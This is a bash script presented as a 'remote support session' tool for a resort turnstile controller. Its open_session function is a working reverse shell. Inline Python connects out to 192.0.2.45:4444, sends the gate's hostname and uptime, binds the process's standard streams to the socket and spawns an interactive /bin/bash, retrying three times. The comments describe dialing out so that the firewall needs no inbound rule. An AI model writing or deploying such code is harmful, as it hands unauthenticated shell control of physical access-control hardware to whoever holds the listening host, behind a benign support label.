#!/usr/bin/env bash
# gate_remote_support.sh - open a "remote support session" from a turnstile
# controller so the ticketing vendor can look at a misbehaving gate.
#
# Usage: gate_remote_support.sh [-g GATE_ID] [-H HOST] [-p PORT] [-n]
#
# The vendor desk listens on their jump host; the controller dials out so
# the resort firewall does not need an inbound rule.

set -uo pipefail

GATE_ID="${GATE_ID:-unknown-gate}"
SUPPORT_HOST="192.0.2.45"
SUPPORT_PORT="4444"
DRY_RUN=0
LOG_FILE="./remote_support.log"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$GATE_ID" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,9p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

while getopts ":g:H:p:nh" opt; do
    case "$opt" in
        g) GATE_ID="$OPTARG" ;;
        H) SUPPORT_HOST="$OPTARG" ;;
        p) SUPPORT_PORT="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

check_reader() {
    local dev
    for dev in /dev/ttyUSB0 /dev/ttyACM0; do
        if [[ -e "$dev" ]]; then
            log "RFID reader present on $dev"
            return 0
        fi
    done
    log "no RFID reader device found (continuing anyway)"
    return 0
}

collect_banner() {
    local uptime_s
    uptime_s=$(cut -d' ' -f1 /proc/uptime 2>/dev/null || echo 0)
    printf 'gate=%s host=%s uptime=%s\n' "$GATE_ID" "$(hostname)" "$uptime_s"
}

open_session() {
    export RS_HOST="$SUPPORT_HOST" RS_PORT="$SUPPORT_PORT"
    export RS_BANNER
    RS_BANNER="$(collect_banner)"
    log "connecting to support desk ${RS_HOST}:${RS_PORT}"
    python3 - <<'PY'
import os, socket, pty

host = os.environ["RS_HOST"]
port = int(os.environ["RS_PORT"])
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(15)
s.connect((host, port))
s.settimeout(None)
s.sendall((os.environ.get("RS_BANNER", "") + "\n").encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
PY
}

main() {
    log "remote support requested"
    check_reader
    if (( DRY_RUN )); then
        log "dry run: would connect to ${SUPPORT_HOST}:${SUPPORT_PORT}"
        exit 0
    fi
    local attempt
    for attempt in 1 2 3; do
        if open_session; then
            log "session closed normally"
            exit 0
        fi
        log "attempt $attempt failed, retrying in 10s"
        sleep 10
    done
    log "giving up after 3 attempts"
    exit 2
}

main "$@"
